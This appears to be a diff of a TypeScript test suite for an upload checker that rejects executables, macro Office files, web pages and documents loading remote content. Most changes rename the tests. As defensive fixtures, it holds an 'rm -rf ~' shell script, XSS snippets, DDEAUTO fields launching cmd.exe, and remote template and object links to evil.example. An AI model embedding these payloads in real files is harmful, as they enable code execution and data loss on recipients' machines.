@@ -8,27 +8,28 @@ import { compound, office, openDocument, zip } from '../../support/files/archive
 import { EXE, hex, latin1, refuses, refusesName, refusesWithin } from '../../support/files/file-checks.ts';
 import { compressedPdf, pdf } from '../../support/files/pdfs.ts';
 
-// Which files are refused, which are kept, and as what (contract, Documents).
-
 const PDF = pdf();
 const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
 
-describe('a name that a machine would run is refused, whatever the file holds', () => {
+describe('a file name of an executable, container, web page or macro document', () => {
   test.each(
     `exe dll com scr pif cpl bat cmd ps1 psm1 vbs vbe js mjs jse wsf wsh hta jar class apk ipa app sh bash reg inf gadget msc
     py pl rb php mdb one terminal mobileconfig prg shs`.split(/\s+/),
   )('.%s', (extension) => refusesName('program', extension)(`letter.${extension}`, PDF));
-  test.each('lnk url scf webloc desktop website rdp udl searchconnector-ms'.split(' '))('.%s', (extension) =>
-    refusesName('shortcut', extension)(`letter.${extension}`, PDF),
+  test.each('lnk url scf webloc desktop website rdp udl searchconnector-ms'.split(' '))(
+    'is rejected with any content: .%s',
+    (extension) => refusesName('shortcut', extension)(`letter.${extension}`, PDF),
   );
-  test.each('msi dmg pkg deb rpm iso img vhd vhdx msix'.split(' '))('.%s', (extension) =>
+  test.each('msi dmg pkg deb rpm iso img vhd vhdx msix'.split(' '))('is rejected with any content: .%s', (extension) =>
     refusesName('disk', extension)(`letter.${extension}`, PDF),
   );
-  test.each('html htm xhtml xht shtml mhtml mht svg svgz'.split(' '))('.%s', (extension) =>
-    refusesName('page', extension)(`letter.${extension}`, PDF),
+  test.each('html htm xhtml xht shtml mhtml mht svg svgz'.split(' '))(
+    'is rejected with any content: .%s',
+    (extension) => refusesName('page', extension)(`letter.${extension}`, PDF),
   );
-  test.each('docm dotm xlsm xltm xlam pptm potm ppam ppsm xla'.split(' '))('.%s', (extension) =>
-    refusesName('macros', extension)(`letter.${extension}`, PDF),
+  test.each('docm dotm xlsm xltm xlam pptm potm ppam ppsm xla'.split(' '))(
+    'is rejected with any content: .%s',
+    (extension) => refusesName('macros', extension)(`letter.${extension}`, PDF),
   );
 
   test.each([
@@ -52,7 +53,7 @@ describe('a name that a machine would run is refused, whatever the file holds', 
     'My invoice.exe',
     'invoice@firm.exe',
     '.exe',
-  ])('%j', (name) => refusesName('program', 'exe')(name, PDF));
+  ])('is rejected in disguise: %j', (name) => refusesName('program', 'exe')(name, PDF));
 
   test.each([
     'exe',
@@ -62,7 +63,7 @@ describe('a name that a machine would run is refused, whatever the file holds', 
     'letter.com.pdf',
     'e.x.e.pdf',
     'Re: 12.05.2026.pdf',
-  ])('%j is no such name', async (name) =>
+  ])('is not confused with %j, which is accepted', async (name) =>
     expect(await checkFile(name, PDF)).toMatchObject({ type: 'application/pdf' }),
   );
 });
@@ -81,7 +82,7 @@ describe('a name that ends in an address or a sentence', () => {
     ['P60 for St.Inf', PDF, 'P60 for St.Inf.pdf'],
     ['Re: www.aviva.com', PDF, 'Re: www.aviva.com.pdf'],
     [LONG, PDF, `${LONG.slice(0, 251)}.pdf`],
-  ])('%j is kept with the ending of its bytes', async (name, bytes, kept) => {
+  ])('%j is stored with the extension of its content', async (name, bytes, kept) => {
     const { name: stored = name } = await checkFile(name, bytes);
     expect(stored).toBe(kept);
   });
@@ -95,7 +96,7 @@ describe('a name that ends in an address or a sentence', () => {
     'setup.exe: how to.pdf',
     'Aviva.com - plan.pdf',
     'Scan 12:30.pdf',
-  ])('%j has an ending, and is kept as it is', async (name) =>
+  ])('%j has an extension and is stored unchanged', async (name) =>
     expect(await checkFile(name, PDF)).toEqual({ type: 'application/pdf', preview: true }),
   );
 
@@ -111,7 +112,7 @@ describe('a name that ends in an address or a sentence', () => {
     ['bt.com:2026', PDF, 'com'],
     ['Re: bt.com::$DATA', PDF, 'com'],
     ['Letter for Mr.Job', compound(['Contents']), 'job'],
-  ])('%j is refused for its ending', (name, bytes, ending) => refusesName('program', ending)(name, bytes));
+  ])('%j is rejected for its extension', (name, bytes, ending) => refusesName('program', ending)(name, bytes));
 
   test('does not hide a program or a web page', async () => {
     await refuses('program')('Statement from hsbc.com.pdf', EXE);
@@ -121,20 +122,20 @@ describe('a name that ends in an address or a sentence', () => {
   });
 });
 
-describe('what the bytes show to be a program is refused, whatever its name', () => {
+describe('a program is detected by its bytes, whatever its name', () => {
   test.each<[string, Buffer, RefusalKind]>([
     ['Windows', EXE, 'program'],
     ['Linux', hex('7f454c46020101'), 'program'],
     ['macOS', hex('cffaedfe07000001'), 'program'],
-    ['macOS of two kinds, or Java', hex('cafebabe00000002'), 'program'],
+    ['macOS with two architectures, or Java', hex('cafebabe00000002'), 'program'],
     ['Android', hex('6465780a30333500'), 'program'],
-    ['the web', hex('0061736d01000000'), 'program'],
+    ['WebAssembly', hex('0061736d01000000'), 'program'],
     ['a shell', latin1('#!/bin/sh\nrm -rf ~\n'), 'program'],
-    ['a shell, after a mark', latin1('\xef\xbb\xbf#! /usr/bin/env python3\n'), 'program'],
+    ['a shell, after a byte order mark', latin1('\xef\xbb\xbf#! /usr/bin/env python3\n'), 'program'],
     ['a shortcut', hex('4c0000000114020000000000c000000000000046'), 'shortcut'],
     ['an installer', compound(['Property'], { classId: '84100c0000000000c000000000000046' }), 'disk'],
-    ['a disk of macOS', Buffer.concat([Buffer.alloc(2048), latin1('koly'), Buffer.alloc(508)]), 'disk'],
-    ['a CD', Buffer.concat([Buffer.alloc(0x8001), latin1('CD001'), Buffer.alloc(2048)]), 'disk'],
+    ['a macOS disk image', Buffer.concat([Buffer.alloc(2048), latin1('koly'), Buffer.alloc(508)]), 'disk'],
+    ['a CD image', Buffer.concat([Buffer.alloc(0x8001), latin1('CD001'), Buffer.alloc(2048)]), 'disk'],
     [
       'a package of Debian',
       latin1('!<arch>\ndebian-binary   1410122664  0     0     100644  4         `\n2.0\n'),
@@ -142,10 +143,10 @@ describe('what the bytes show to be a program is refused, whatever its name', ()
     ],
     ['a package of Red Hat', hex('edabeedb03000000'), 'disk'],
     ['a Flash film', latin1('CWS\x0a\x10\0\0\0abc'), 'program'],
-    ['an extension of Chrome', latin1('Cr24\x03\0\0\0abc'), 'program'],
-  ])('for %s', (_, bytes, kind) => refuses(kind)('letter.pdf', bytes));
+    ['a Chrome extension', latin1('Cr24\x03\0\0\0abc'), 'program'],
+  ])('and rejected: %s', (_, bytes, kind) => refuses(kind)('letter.pdf', bytes));
 
-  test('a text that only begins like one is kept', async () => {
+  test('and not confused with a text that begins alike', async () => {
     for (const text of ['MZ is what they call Mozambique', '# A heading', 'BMW lease, three years', 'dexterity', 'L'])
       expect(await checkFile('notes.txt', latin1(text))).toEqual({ type: 'text/plain', preview: true });
   });
@@ -157,13 +158,13 @@ test.each([
   [' ', ''],
   ['\r\n\t', '\r\n'],
   ['\xef\xbb\xbf', ''],
-])('the EICAR test file is refused, with %j before and %j after it', async (before, after) => {
+])('the EICAR test file is rejected with %j before and %j after it', async (before, after) => {
   const bytes = latin1(before + EICAR + after);
   for (const name of ['eicar.com.txt', 'statement.pdf']) await refuses('virus')(name, bytes);
   await refusesWithin(zip([{ name: 'statement.pdf', content: bytes }]), /virus test file/);
 });
 
-describe('web pages and drawings are refused, whatever their name', () => {
+describe('a web page or drawing', () => {
   test.each([
     '<!doctype html><script>alert(1)</script>',
     '\xef\xbb\xbf\r\n  <HTML lang="en">',
@@ -179,7 +180,7 @@ describe('web pages and drawings are refused, whatever their name', () => {
     '<a href="javascript:alert(1)">x</a>',
     '<iframe src="//evil.example">',
     'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<html>',
-  ])('%j', async (content) => {
+  ])('is rejected under any name: %j', async (content) => {
     for (const name of ['statement.pdf', 'notes.txt', 'photo.jpg']) await refuses('page')(name, latin1(content));
     await refuses('page')('notes.txt', Buffer.from(`\ufeff${content.replace('\xef\xbb\xbf', '')}`, 'utf16le'));
   });
@@ -196,12 +197,12 @@ describe('web pages and drawings are refused, whatever their name', () => {
       'From: a@b.example\r\nTo: c@d.example\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b',
       undefined,
     ],
-  ])('%s of %j is none', async (name, content, type) =>
+  ])('is not confused with %s that contains %j', async (name, content, type) =>
     expect(await checkFile(name, latin1(content))).toMatchObject({ ...(type && { type }) }),
   );
 });
 
-describe('Office documents with macros are refused, whatever their name', () => {
+describe('an Office document with macros', () => {
   const sheet = (kind: number) => Buffer.from([0x85, 0, 14, 0, 1, 2, 3, 4, 0, kind, 6, 0, ...latin1('Sheet1')]);
   test.each<[string, Buffer]>([
     ['letter.docx', office('docx', { name: 'word/vbaProject.bin', content: 'x' })],
@@ -221,9 +222,9 @@ describe('Office documents with macros are refused, whatever their name', () => 
     ['table.ods', openDocument('spreadsheet', { name: 'Scripts/python/x.txt', content: 'x' })],
     ['letter.xml', latin1('<?xml version="1.0"?><w:wordDocument w:macrosPresent="yes"/>')],
     ['letter.fodt', latin1('<?xml version="1.0"?><office:document><script:module script:name="a"/></office:document>')],
-  ])('%s', (name, bytes) => refuses('macros')(name, bytes));
+  ])('is rejected under any name: %s', (name, bytes) => refuses('macros')(name, bytes));
 
-  test('also within an archive', async () => {
+  test('is rejected inside an archive', async () => {
     const docm = office('docx', { name: 'word/vbaProject.bin', content: 'x' });
     await refusesWithin(zip([{ name: 'a.docx', content: docm }]), /holds an Office document with macros/);
     await refusesWithin(zip([{ name: 'a.xls', content: compound(['VBA']) }]), /holds an Office document with macros/);
@@ -247,12 +248,12 @@ describe('Office documents with macros are refused, whatever their name', () => 
       ]),
       'application/zip',
     ],
-  ])('%s without any is kept', async (name, bytes, type) =>
+  ])('is not confused with %s without macros, which is accepted', async (name, bytes, type) =>
     expect(await checkFile(name, bytes)).toEqual({ type, preview: false }),
   );
 });
 
-describe('an Office document that loads its template', () => {
+describe('an Office document with an attached template', () => {
   const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
   const withTemplate = (target: string, type = TYPE) =>
     office('docx', {
@@ -266,19 +267,19 @@ describe('an Office document that loads its template', () => {
     'file:///\\\\evil.example\\share\\a.dotm',
     'file://evil.example/share/a.dotm',
     '&#104;ttp://evil.example/a.dotm',
-  ])('from elsewhere is refused: %s', async (target) => {
+  ])('from another computer is rejected: %s', async (target) => {
     await refuses('template')('letter.docx', withTemplate(target));
     await refuses('template')('letter.docx', withTemplate(target, TYPE.replace('Template', '&#x54;emplate')));
     await refusesWithin(zip([{ name: 'a.docx', content: withTemplate(target) }]), /loads a template/);
   });
 
   test.each(['file:///C:\\Users\\Ann\\Templates\\Letter.dotx', 'file:///Users/ann/Normal.dotm', 'Normal.dotm'])(
-    'from its own drive is kept: %s',
+    'from its own drive is accepted: %s',
     async (target) => expect(await checkFile('letter.docx', withTemplate(target))).toMatchObject({ preview: false }),
   );
 });
 
-describe('what people send is kept', () => {
+describe('a common file', () => {
   const png = async () => Buffer.from(await (await demoFile('Passport.png')).arrayBuffer());
   const box = (brand: string) =>
     Buffer.concat([Buffer.from([0, 0, 0, 24]), latin1(`ftyp${brand}\0\0\0\0mif1${brand}`), Buffer.alloc(64)]);
@@ -323,12 +324,12 @@ describe('what people send is kept', () => {
     ['anything.bin', () => latin1('\x01\x02\x03'), 'application/octet-stream', false],
     ['pension.pdf', () => latin1('alert(1)'), 'application/octet-stream', false],
     ['one', () => latin1('x'), 'application/octet-stream', false],
-  ])('%s (%#)', async (name, bytes, type, preview) =>
+  ])('is accepted with its type and preview: %s (%#)', async (name, bytes, type, preview) =>
     expect(await checkFile(name, await bytes())).toEqual({ type, preview }),
   );
 });
 
-test('each refusal tells what to send instead', () => {
+test('every file rejection says what to send instead', () => {
   for (const sentence of Object.values(REFUSALS)) expect(sentence).toMatch(/Please (send|save)/);
 });
 
@@ -358,9 +359,12 @@ describe('an Office document', () => {
 
   test.each<[string, Buffer]>([
     ['embeds an object from the web', withLink('oleObject', 'https://evil.example/a.html!')],
-    ['embeds one in lower case', withLink('oleObject', 'mhtml:http://evil.example/a', 'targetmode="external"')],
-    ['loads a part of its text', withLink('aFChunk', '\\\\evil\\a.mht')],
-    ['loads a picture without encryption', withLink('image', 'http://evil.example/a.png')],
+    [
+      'embeds an object from the web, in lower case',
+      withLink('oleObject', 'mhtml:http://evil.example/a', 'targetmode="external"'),
+    ],
+    ['loads a part of its text from another computer', withLink('aFChunk', '\\\\evil\\a.mht')],
+    ['loads a picture over HTTP', withLink('image', 'http://evil.example/a.png')],
     ['loads a picture from another computer', withLink('image', 'file:////evil/a.png')],
     ['starts a program by a field', withField(' DD', 'EAUTO c:\\\\cmd.exe ')],
     [
@@ -383,41 +387,41 @@ describe('an Office document', () => {
       'includes text from an address in a field',
       withField('INCLUDETEXT <w:fldChar w:fldCharType="begin"/>', 'QUOTE file://evil/a'),
     ],
-    ['includes a picture without encryption', withField('INCLUDEPICTURE \\d "http://evil.example/a.png"')],
+    ['includes a picture over HTTP', withField('INCLUDEPICTURE \\d "http://evil.example/a.png"')],
     ['links a workbook on another computer', withField('LINK Excel.Sheet.12 //evil/a.xlsx')],
-    ['takes a value of another program', open('<text:dde-connection-decl/>')],
-    ['takes a cell of another program', open('<t:table-cell t:formula="of:=DDE(&quot;cmd&quot;;&quot;a&quot;)"/>')],
+    ['uses a value of another program', open('<text:dde-connection-decl/>')],
+    ['uses a cell of another program', open('<t:table-cell t:formula="of:=DDE(&quot;cmd&quot;;&quot;a&quot;)"/>')],
     ['loads a section from the web', open('<text:section-source xlink:href="https://evil.example/a.odt"/>')],
     ['loads an object from another computer', open("<draw:object l:href='file:////evil/a.odt'/>")],
-    [
-      'loads a picture of the web without encryption',
-      open('<draw:image xlink:href="&#104;ttp://evil.example/a.png"/>'),
-    ],
+    ['loads a picture from the web over HTTP', open('<draw:image xlink:href="&#104;ttp://evil.example/a.png"/>')],
     ['declares entities', latin1('<!DOCTYPE a [<!ENTITY a "<b>">]><o:document>&a;</o:document>')],
-    ['is one file with a DDE source', flat('<office:dde-source office:dde-application="cmd"/>')],
-    ['is one file with a section from the web', flat('<text:section-source xlink:href="http://evil.example/a"/>')],
+    ['is a flat file with a DDE source', flat('<office:dde-source office:dde-application="cmd"/>')],
+    ['is a flat file with a section from the web', flat('<text:section-source xlink:href="http://evil.example/a"/>')],
     [
-      'is a package in one file',
+      'is a flat package with a field that starts a program',
       latin1(`<pkg:package><pkg:part><pkg:xmlData>${DDE}</pkg:xmlData></pkg:part></pkg:package>`),
     ],
     [
-      'is a package in one file with an object',
+      'is a flat package with an object from the web',
       latin1(
         `<pkg:package><Relationship Type="${TYPES}/oleObject" Target="http://evil.example/a" TargetMode="External"/></pkg:package>`,
       ),
     ],
     ['starts a program by a field in rich text', richField(' DDEAUTO c:\\\\\\\\cmd.exe')],
-    ['starts one by a field in pieces', richField("{\\b D}{\\*\\a b}\\'44\r\n\\uc2\\u69 ??\\bin1 } cmd")],
+    [
+      'starts a program by a split field in rich text',
+      richField("{\\b D}{\\*\\a b}\\'44\r\n\\uc2\\u69 ??\\bin1 } cmd"),
+    ],
     ['includes text in rich text', richField(' INCLUDETEXT "https://evil.example/a"')],
     ['includes a picture in rich text', richField(' INCLUDEPICTURE "\\\\\\\\\\\\\\\\evil\\\\a.png" \\\\d')],
-    ['updates an object in rich text after blanks', latin1(`${' \n'.repeat(70)}{\\rtf1 {\\object\\objupdate}}`)],
+    ['updates an object in rich text after white space', latin1(`${' \n'.repeat(70)}{\\rtf1 {\\object\\objupdate}}`)],
     ['updates an object in rich text', rich('{\\object\\objautlink\\objupdate}')],
-  ])('that %s is refused', async (_, bytes) => {
+  ])('that %s is rejected', async (_, bytes) => {
     await refuses('linked')('letter.docx', bytes);
     await refusesWithin(zip([{ name: 'a.docx', content: bytes }]), /loads? or runs? something from elsewhere/);
   });
 
-  // Each of these took minutes where time grew with the square of what is written.
+  // Each took minutes when the time grew quadratically with the length of the text.
   test.each([
     '<Relationship ',
     '<a "',
@@ -436,7 +440,7 @@ describe('an Office document', () => {
     '<w:instrText>INCLUDETEXT ',
     '<w:instrText>a</w:instrText>',
     ' ',
-  ])('that repeats %j is looked at quickly', (text) => {
+  ])('that repeats %j is inspected quickly', (text) => {
     const xml = Buffer.alloc(1_000_000, text);
     expect(refusalOfXml(Buffer.concat([latin1('<document href="">'), xml]))).toBeUndefined();
   });
@@ -453,53 +457,59 @@ describe('an Office document', () => {
     '\\u6?',
     '\\bin1',
     'INCLUDETEXT file:///',
-  ])('that repeats %j in rich text is looked at quickly', (text) =>
+  ])('that repeats %j in rich text is inspected quickly', (text) =>
     expect(refusalOfRichText(rich(`{\\fldinst ${text.repeat(1_000_000 / text.length)}`))).toBeUndefined(),
   );
 
   test.each(['{\\*\\template http://evil.example/a.dotm}', '{\\*\\template {}h{\\b ttp}://evil.example/a.dotm}'])(
-    'of rich text that loads a template is refused: %s',
+    'in rich text that loads a template is rejected: %s',
     (text) => refuses('template')('letter.rtf', rich(text)),
   );
 
-  test('in one file that loads a template is refused', () =>
+  test('in a flat file that loads a template is rejected', () =>
     refuses('template')('letter.fodt', flat('<meta:template xlink:href="http://evil.example/a.ott"/>')));
 
   test.each<[string, Buffer]>([
     ['has a link to the web', withLink('hyperlink', 'https://firm.example/a&amp;b')],
-    ['shows a picture of the web', withLink('image', 'https://firm.example/a.png')],
-    ['shows a picture of its own drive', withLink('image', 'file:///C:\\Pictures\\a.png')],
-    ['refers to another workbook beside it', withLink('externalLinkPath', 'Pensions%202026.xlsx')],
-    ['has fields of its own', withField(' HYPERLINK "https://firm.example/DDE" ')],
+    ['shows a picture from the web over HTTPS', withLink('image', 'https://firm.example/a.png')],
+    ['shows a picture from its own drive', withLink('image', 'file:///C:\\Pictures\\a.png')],
+    ['refers to another workbook in its folder', withLink('externalLinkPath', 'Pensions%202026.xlsx')],
+    ['has harmless fields', withField(' HYPERLINK "https://firm.example/DDE" ')],
     ['has a table of contents', withField('TOC \\o "1-3" \\h <w:fldChar w:fldCharType="separate"/>', 'PAGEREF _Toc1')],
     ['has fields to fill in', withField('MERGEFIELD DDE \\* MERGEFORMAT</w:instrText><w:t>DDE</w:t><w:instrText>')],
-    ['includes text of its own drive', withField('INCLUDETEXT "C:\\\\My Docs\\\\a.docx" \\* MERGEFORMAT')],
+    ['includes text from its own drive', withField('INCLUDETEXT "C:\\\\My Docs\\\\a.docx" \\* MERGEFORMAT')],
     [
       'includes text with links',
       withField('INCLUDETEXT a.docx <w:fldChar w:fldCharType="separate"/>', 'HYPERLINK "https://firm.example"'),
     ],
-    ['has a picture pasted from a mail', withField('INCLUDEPICTURE "https://firm.example/a.png" \\* MERGEFORMATINET')],
+    [
+      'has a picture pasted from an email',
+      withField('INCLUDEPICTURE "https://firm.example/a.png" \\* MERGEFORMATINET'),
+    ],
     ['refers to a workbook on its own drive', withLink('externalLinkPath', 'file:///C:\\Pensions\\2026.xlsx')],
-    ['shows a picture beside it', open('<draw:image xlink:href="../Pictures/a.png"/>')],
+    ['shows a picture in its folder', open('<draw:image xlink:href="../Pictures/a.png"/>')],
     ['links to the web in OpenDocument', open('<text:a xlink:href="https://firm.example/a">a</text:a>')],
     [
       'has objects and formulas',
       open('<draw:object xlink:href="./Object 1"/><t:table-cell t:formula="of:=SUM([.A1])"/>'),
     ],
     [
-      'is one file of its own',
+      'is a flat file with a local template',
       flat('<meta:template xlink:href="file:///C:/Letters/a.ott"/><text:p>DDE http://a.example</text:p>'),
     ],
-    ['is another XML file', latin1('<xbrl><link:schemaRef xlink:href="http://www.xbrl.org/a.xsd"/></xbrl>')],
+    ['is XML of another kind', latin1('<xbrl><link:schemaRef xlink:href="http://www.xbrl.org/a.xsd"/></xbrl>')],
     ['has links in rich text', richField('HYPERLINK "https://firm.example"')],
     ['links workbooks', withBook('<externalLink><externalBook r:id="rId1"/></externalLink>')],
-    ['is rich text with a template of its own drive', rich('{\\*\\template C:\\\\Letters\\\\a.dot}{\\object\\objemb}')],
-  ])('that %s is kept', async (_, bytes) =>
+    [
+      'is rich text with a template from its own drive',
+      rich('{\\*\\template C:\\\\Letters\\\\a.dot}{\\object\\objemb}'),
+    ],
+  ])('that %s is accepted', async (_, bytes) =>
     expect(await checkFile('letter.docx', bytes)).toMatchObject({ preview: false }),
   );
 });
 
-describe('a picture is shown only if each of its pictures has at most 50 million points', () => {
+describe('a preview needs every frame to have at most 50 million pixels', () => {
   const exactly = (digits: string) => Buffer.from(digits, 'hex');
   const png = (width: string, height: string) => exactly(`89504e470d0a1a0a0000000d49484452${width}${height}`);
   const jpeg = (...parts: string[]) => exactly(`ffd8ffe00004aabb${parts.join('')}`);
@@ -521,31 +531,31 @@ describe('a picture is shown only if each of its pictures has at most 50 million
     webp(CANVAS, chunk('ANMF', `000000000000${size}00000000${inner.join('')}`));
 
   test.each<[string, Buffer, boolean]>([
-    ['PNG of a phone', png('00002328', '00001388'), true],
+    ['PNG from a phone', png('00002328', '00001388'), true],
     ['PNG of 109 KB', png('00007530', '00007530'), false],
-    ['PNG that is cut', png('00002328', ''), false],
-    ['JPEG of a phone', jpeg(PHONE, SCAN, 'ffd90002', HUGE), true],
-    ['JPEG with fill bytes and rubbish', jpeg('0011ffff', HUGE), false],
+    ['truncated PNG', png('00002328', ''), false],
+    ['JPEG from a phone', jpeg(PHONE, SCAN, 'ffd90002', HUGE), true],
+    ['JPEG with fill bytes and invalid data', jpeg('0011ffff', HUGE), false],
     ['JPEG with a second frame', jpeg(PHONE, SCAN, HUGE), false],
-    ['JPEG whose height follows its scan', jpeg(frame('0000', '1f40'), SCAN, 'ffdc00041770'), false],
+    ['JPEG with its height after its scan', jpeg(frame('0000', '1f40'), SCAN, 'ffdc00041770'), false],
     ['JPEG without a frame', jpeg(SCAN), false],
-    ['JPEG whose frame is cut', jpeg(PHONE.slice(0, 12)), false],
-    ['GIF of a dot', gif(DOT, DOT, '3b'), true],
-    ['GIF that is cut in a frame', gif(DOT, DOT.slice(0, -4)), true],
-    ['GIF screen', exactly(`474946383961ffffffff000000${DOT}3b`), false],
+    ['JPEG with a truncated frame', jpeg(PHONE.slice(0, 12)), false],
+    ['GIF of one pixel', gif(DOT, DOT, '3b'), true],
+    ['GIF truncated in a frame', gif(DOT, DOT.slice(0, -4)), true],
+    ['GIF with a huge screen', exactly(`474946383961ffffffff000000${DOT}3b`), false],
     ['GIF frame larger than its screen', gif(VAST, '3b'), false],
     ['GIF with a larger second frame', gif(DOT, VAST, '3b'), false],
     ['GIF frame far outside its screen', gif(DOT.replace('2c00000000', '2cffffffff'), '3b'), false],
     ['GIF with an unknown block', gif(DOT, '11'), false],
-    ['WebP of a phone', webp(chunk('VP8 ', '0000009d012a400b900b')), true],
-    ['WebP canvas', webp(chunk('VP8X', '00000000ffff00ffff00')), false],
-    ['WebP without loss', webp(LOSSLESS), false],
-    ['WebP with a larger picture', webp(CANVAS, LOSSY), false],
+    ['WebP from a phone', webp(chunk('VP8 ', '0000009d012a400b900b')), true],
+    ['WebP with a huge canvas', webp(chunk('VP8X', '00000000ffff00ffff00')), false],
+    ['lossless WebP with huge dimensions', webp(LOSSLESS), false],
+    ['WebP with a picture larger than its canvas', webp(CANVAS, LOSSY), false],
     ['WebP of small frames', animated('070000070000', chunk('VP8L', '2f0000000000')), true],
     ['WebP with a larger frame', animated('7f3e007f3e00'), false],
-    ['WebP with a larger picture in a frame', animated('070000070000', LOSSLESS), false],
+    ['WebP with a large picture in a small frame', animated('070000070000', LOSSLESS), false],
     ['WebP with frames in a frame', animated('070000070000', chunk('ANMF', '00'.repeat(16))), false],
     ['WebP with an unknown first chunk', webp(chunk('ABCD', ''), chunk('VP8L', '2f0000000000')), false],
-    ['WebP that is cut', webp(chunk('VP8 ', '0000009d012a400b900b00')).subarray(0, -1), false],
+    ['truncated WebP', webp(chunk('VP8 ', '0000009d012a400b900b00')).subarray(0, -1), false],
   ])('%s', async (_, bytes, preview) => expect(await checkFile('photo', bytes)).toMatchObject({ preview }));
 });
